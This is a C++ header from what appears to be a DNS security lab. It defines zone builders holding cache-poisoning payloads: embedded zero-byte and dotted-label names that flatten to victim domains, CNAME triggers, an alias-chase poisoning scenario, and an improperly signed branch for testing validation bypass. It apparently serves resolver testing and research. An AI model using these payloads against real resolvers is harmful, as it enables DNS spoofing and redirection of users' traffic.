#pragma once

#include <string>
#include <vector>

#include "dnslab/zone.hpp"

namespace dnslab {

// Well-known addresses used across the lab: payload records answer 6.6.6.6,
// legitimate victim records answer 1.1.1.1.
inline constexpr std::uint32_t kPayloadAddr = 0x06060606;   // 6.6.6.6
inline constexpr std::uint32_t kVictimAddr = 0x01010101;    // 1.1.1.1
inline constexpr std::uint32_t kProbeAddr = 0x08080808;     // 8.8.8.8
inline constexpr std::uint32_t kChainAddr = 0x07070707;     // 7.7.7.7
inline constexpr std::uint32_t kBaselineAddr = 0x09090909;  // 9.9.9.9

/// Name whose flattened string equals `victim`: the victim's last label gets a
/// trailing 0x00 byte and the attacker suffix is appended, so a byte-wise
/// "join with dots, stop at the first zero byte" yields exactly `victim`.
/// With `with_star`, a "*" label sits between victim and suffix so each probe
/// can carry a fresh captured label without changing the flattened result.
inline DnsName embedded_zero_name(const DnsName& victim, const DnsName& suffix,
                                  bool with_star = false) {
  DnsName out = victim;
  out.labels.back().push_back('\0');
  if (with_star) out.labels.push_back("*");
  out.labels.insert(out.labels.end(), suffix.labels.begin(), suffix.labels.end());
  return out;
}

/// Name whose labels contain literal dots: all labels of `victim` except the
/// last are joined into a single label, so the name has two labels but
/// flattens to the victim string (e.g. "www.target" + "com").
inline DnsName embedded_dot_name(const DnsName& victim) {
  DnsName out;
  std::string head;
  for (std::size_t i = 0; i + 1 < victim.labels.size(); ++i) {
    if (i) head.push_back('.');
    head += victim.labels[i];
  }
  out.labels = {head, victim.labels.back()};
  return out;
}

namespace detail {

inline ScriptEntry entry_a(DnsName owner, std::uint32_t ttl, std::uint32_t addr,
                           bool valid = true) {
  ScriptEntry e;
  e.owner = owner;
  e.rrtype = RrType::A;
  AnswerStep s;
  s.answers.push_back({ResourceRecord{std::move(owner), RrType::A, RrClass::IN, ttl, ARdata{addr}},
                       valid});
  e.schedule.push_back(std::move(s));
  return e;
}

inline ScriptEntry entry_cname(DnsName owner, std::uint32_t ttl, DnsName target) {
  ScriptEntry e;
  e.owner = owner;
  e.rrtype = RrType::CNAME;
  AnswerStep s;
  s.answers.push_back({ResourceRecord{std::move(owner), RrType::CNAME, RrClass::IN, ttl,
                                      NameRdata{std::move(target)}},
                       true});
  e.schedule.push_back(std::move(s));
  return e;
}

/// First arrival: empty answer with an SOA whose minimum is zero (nothing for
/// a cache to hold). Every later arrival: an address record.
inline ScriptEntry entry_deferred_a(DnsName owner, std::uint32_t ttl, std::uint32_t addr) {
  ScriptEntry e;
  e.owner = owner;
  e.rrtype = RrType::A;
  AnswerStep first;
  first.forever = false;
  first.soa_minimum = 0;
  AnswerStep rest;
  rest.answers.push_back(
      {ResourceRecord{std::move(owner), RrType::A, RrClass::IN, ttl, ARdata{addr}}, true});
  e.schedule.push_back(std::move(first));
  e.schedule.push_back(std::move(rest));
  return e;
}

inline DnsName with_prefix(const std::string& label, const DnsName& base) {
  DnsName out;
  out.labels.push_back(label);
  out.labels.insert(out.labels.end(), base.labels.begin(), base.labels.end());
  return out;
}

}  // namespace detail

/// Canonical names shared by the zone builders, the scanner, and the attack
/// scenarios.
struct LabNames {
  DnsName test_apex = name_of("test.com");
  DnsName target_apex = name_of("target.com");
  DnsName sec_apex = name_of("sec.test.com");
  DnsName attacker_apex = name_of("attacker.com");
  DnsName victim_apex = name_of("victim.com");

  // Sanity baseline resolved via the genuine upstream path.
  DnsName upstream_baseline = name_of("www.target.com");

  // Each misinterpretation variant attacks its own victim name so verdicts
  // cannot contaminate each other through shared cache keys.
  DnsName victim_zero_direct = name_of("d0.target.com");
  DnsName victim_zero_cname = name_of("c0.target.com");
  DnsName victim_dot_direct = name_of("d1.target.com");
  DnsName victim_dot_cname = name_of("c1.target.com");

  // Bases for randomized probes ("<12 random chars>.<base>").
  DnsName probe_base = name_of("probe.test.com");
  DnsName chain_base = name_of("chain.test.com");
  DnsName chainend_base = name_of("chainend.test.com");
  DnsName baseline_base = name_of("baseline.test.com");
  DnsName bad_sec_base = name_of("bad.sec.test.com");
  DnsName zero_trigger_base = name_of("czero.test.com");
  DnsName dot_trigger_base = name_of("cdot.test.com");

  // Alias-chase attack scenario.
  DnsName chase_zero_trigger = name_of("zero.attacker.com");
  DnsName chase_dot_trigger = name_of("dot.attacker.com");
  DnsName chase_victim = name_of("www.victim.com");

  // On-path tampering scenario.
  DnsName secure_apex = name_of("secure.example");
  DnsName secure_victim = name_of("www.secure.example");
};

/// The four classic injection payloads plus a clean baseline:
///   zero.test.com  CNAME  www.target.com\000.test.com
///   www.target.com\000.test.com  A  6.6.6.6
///   dot.test.com   CNAME  www\.target.com
///   www\.target.com  A  6.6.6.6        (its own two-label zone)
///   www.target.com   A  1.1.1.1        (the legitimate record)
inline std::vector<ZoneScript> builtin_payload_zones(const LabNames& n = {}) {
  std::vector<ZoneScript> zones;

  ZoneScript test;
  test.apex = n.test_apex;
  DnsName zero_special = embedded_zero_name(n.upstream_baseline, n.test_apex);
  test.entries.push_back(
      detail::entry_cname(detail::with_prefix("zero", n.test_apex), 60, zero_special));
  test.entries.push_back(detail::entry_a(zero_special, 60, kPayloadAddr));
  DnsName dot_special = embedded_dot_name(n.upstream_baseline);
  test.entries.push_back(
      detail::entry_cname(detail::with_prefix("dot", n.test_apex), 60, dot_special));
  zones.push_back(std::move(test));

  ZoneScript dotzone;
  dotzone.apex = dot_special;
  dotzone.entries.push_back(detail::entry_a(dot_special, 60, kPayloadAddr));
  zones.push_back(std::move(dotzone));

  ZoneScript target;
  target.apex = n.target_apex;
  target.entries.push_back(detail::entry_a(n.upstream_baseline, 300, kVictimAddr));
  zones.push_back(std::move(target));

  return zones;
}

/// Zones backing the black-box scanner: randomized misinterpretation payloads
/// (wildcard-captured so repeat probes stay cache-cold), behavior probes, and
/// an improperly signed branch for the validation-bypass test.
inline std::vector<ZoneScript> builtin_scan_zones(const LabNames& n = {}) {
  std::vector<ZoneScript> zones;

  ZoneScript test;
  test.apex = n.test_apex;
  // Direct variant, embedded zero byte: the probe name itself flattens to the
  // victim. The "*" slot carries the per-probe random label.
  test.entries.push_back(detail::entry_a(
      embedded_zero_name(n.victim_zero_direct, n.test_apex, /*with_star=*/true), 60,
      kPayloadAddr));
  // Alias variant, embedded zero byte: innocent trigger whose alias target
  // flattens to the victim.
  test.entries.push_back(detail::entry_cname(
      detail::with_prefix("*", n.zero_trigger_base), 60,
      embedded_zero_name(n.victim_zero_cname, n.test_apex, /*with_star=*/true)));
  test.entries.push_back(detail::entry_a(
      embedded_zero_name(n.victim_zero_cname, n.test_apex, /*with_star=*/true), 60,
      kPayloadAddr));
  // Alias variant, embedded dot: fixed two-label alias target.
  test.entries.push_back(detail::entry_cname(detail::with_prefix("*", n.dot_trigger_base), 60,
                                             embedded_dot_name(n.victim_dot_cname)));
  // Behavior probes.
  test.entries.push_back(detail::entry_a(detail::with_prefix("*", n.probe_base), 60, kProbeAddr));
  test.entries.push_back(detail::entry_cname(detail::with_prefix("*", n.chain_base), 60,
                                             detail::with_prefix("*", n.chainend_base)));
  test.entries.push_back(
      detail::entry_a(detail::with_prefix("*", n.chainend_base), 60, kChainAddr));
  test.entries.push_back(
      detail::entry_a(detail::with_prefix("*", n.baseline_base), 60, kBaselineAddr));
  test.entries.push_back(detail::entry_a(n.baseline_base, 60, kBaselineAddr));
  zones.push_back(std::move(test));

  // Improperly signed branch: every stamp is marked invalid, so a validating
  // resolver must reject it unless checking is disabled.
  ZoneScript sec;
  sec.apex = n.sec_apex;
  sec.sign = true;
  sec.entries.push_back(detail::entry_a(detail::with_prefix("*", n.bad_sec_base), 60,
                                        kPayloadAddr, /*valid=*/false));
  sec.entries.push_back(detail::entry_a(n.bad_sec_base, 60, kPayloadAddr, /*valid=*/false));
  zones.push_back(std::move(sec));

  // Legitimate records for every victim name.
  ZoneScript target;
  target.apex = n.target_apex;
  target.entries.push_back(detail::entry_a(n.upstream_baseline, 300, kVictimAddr));
  for (const DnsName* v : {&n.victim_zero_direct, &n.victim_zero_cname, &n.victim_dot_direct,
                           &n.victim_dot_cname})
    target.entries.push_back(detail::entry_a(*v, 300, kVictimAddr));
  zones.push_back(std::move(target));

  // Two-label zones for the dot-in-label names.
  for (const DnsName* v : {&n.victim_dot_direct, &n.victim_dot_cname}) {
    ZoneScript z;
    z.apex = embedded_dot_name(*v);
    z.entries.push_back(detail::entry_a(z.apex, 60, kPayloadAddr));
    zones.push_back(std::move(z));
  }

  return zones;
}

/// Zones for the alias-chase scenario: the first query for the special name
/// gets an empty answer (SOA minimum zero, nothing cacheable), so a client
/// that chases the dangling alias itself triggers a second, poisoning query.
inline std::vector<ZoneScript> builtin_chase_zones(bool dot_variant, const LabNames& n = {}) {
  std::vector<ZoneScript> zones;

  ZoneScript attacker;
  attacker.apex = n.attacker_apex;
  if (!dot_variant) {
    DnsName special = embedded_zero_name(n.chase_victim, n.attacker_apex);
    attacker.entries.push_back(detail::entry_cname(n.chase_zero_trigger, 60, special));
    attacker.entries.push_back(detail::entry_deferred_a(special, 60, kPayloadAddr));
  } else {
    DnsName special = embedded_dot_name(n.chase_victim);
    attacker.entries.push_back(detail::entry_cname(n.chase_dot_trigger, 60, special));
    ZoneScript dotzone;
    dotzone.apex = special;
    dotzone.entries.push_back(detail::entry_deferred_a(special, 60, kPayloadAddr));
    zones.push_back(std::move(dotzone));
  }
  zones.push_back(std::move(attacker));

  ZoneScript victim;
  victim.apex = n.victim_apex;
  victim.entries.push_back(detail::entry_a(n.chase_victim, 300, kVictimAddr));
  zones.push_back(std::move(victim));

  return zones;
}

/// A properly signed zone whose answers an on-path tamperer will corrupt.
inline std::vector<ZoneScript> builtin_secure_zones(const LabNames& n = {}) {
  ZoneScript z;
  z.apex = n.secure_apex;
  z.sign = true;
  z.entries.push_back(detail::entry_a(n.secure_victim, 60, kVictimAddr, /*valid=*/true));
  return {std::move(z)};
}

/// Named access to the built-in zone sets, for command-line plumbing.
inline std::vector<ZoneScript> builtin_zones_by_name(const std::string& which,
                                                     const LabNames& n = {}) {
  if (which == "scan") return builtin_scan_zones(n);
  if (which == "payload") return builtin_payload_zones(n);
  if (which == "chase") return builtin_chase_zones(false, n);
  if (which == "chase-dot") return builtin_chase_zones(true, n);
  if (which == "secure") return builtin_secure_zones(n);
  throw std::runtime_error("unknown zone set '" + which +
                           "' (expected scan, payload, chase, chase-dot, or secure)");
}

}  // namespace dnslab
